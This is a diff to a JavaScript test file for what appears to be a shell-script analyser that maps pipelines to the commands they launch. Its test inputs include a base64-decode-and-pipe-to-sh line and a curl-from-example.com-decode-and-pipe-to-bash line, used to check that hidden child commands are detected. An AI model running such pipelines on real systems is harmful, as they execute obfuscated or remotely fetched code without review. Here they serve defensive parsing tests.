@@ -193,6 +193,13 @@ describe('variables', () => {
 
 describe('syntax', () => {
   it('pipelines have a child for each command', () => {
+    expect(script('echo cHJvZyAteAo= | base64 -d | sh')).toEqual([
+      'pipeline [pipeline]',
+      '  echo [builtin]',
+      '  base64 [elf]',
+      '  sh [elf]',
+      '    prog [elf]',
+    ]);
     expect(script('curl http://example.com/x | base64 -d | bash')).toEqual([
       'pipeline [pipeline]',
       '  curl [elf]',
